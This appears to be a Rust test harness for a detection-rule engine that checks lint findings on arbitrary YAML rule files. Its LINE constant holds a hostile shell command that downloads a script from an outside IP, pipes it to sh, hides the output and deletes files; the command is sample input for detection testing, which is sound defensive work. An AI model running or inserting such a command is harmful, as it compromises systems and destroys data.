//! Any text is a rule file, or wrong for a reason that has a place in it; what can run does.

use vespid_attack::Catalogue;
use vespid_engine::lint::{CODES, lint};
use vespid_engine::{Engine, Pack, RuleFile};

use super::tag;

/// What the rules of a file look at.
const LINE: &str = "cd /tmp; sudo wget http://198.51.100.7/é.sh -O- | sh >/dev/null 2>&1 && rm -rf '/tmp/ x'";

pub(crate) fn rule(text: &str) {
    let files = [RuleFile { path: "rule.yml".to_owned(), text: text.to_owned() }];
    let attack = Catalogue::default_release();
    let (engine, problems) = Engine::new(Pack::load(&files, attack), attack);
    tag::holds(&engine, &tag::typed(LINE));

    let findings = lint(&files, attack);
    // YAML begins a line at each of these.
    let breaks = ['\n', '\r', '\u{85}', '\u{2028}', '\u{2029}'];
    let lines = text.matches(breaks).count() + 1;
    for finding in &findings {
        assert!(CODES.iter().any(|known| known.code == finding.code), "{finding:?}");
        assert!((1..=lines + 1).contains(&(finding.line as usize)), "{finding:?} of {lines} lines");
        assert!(finding.column >= 1, "{finding:?}");
    }
    let told = findings.iter().filter(|finding| finding.is_error()).count();
    assert!(problems.is_empty() || told > 0, "{problems:?} are not told");
}
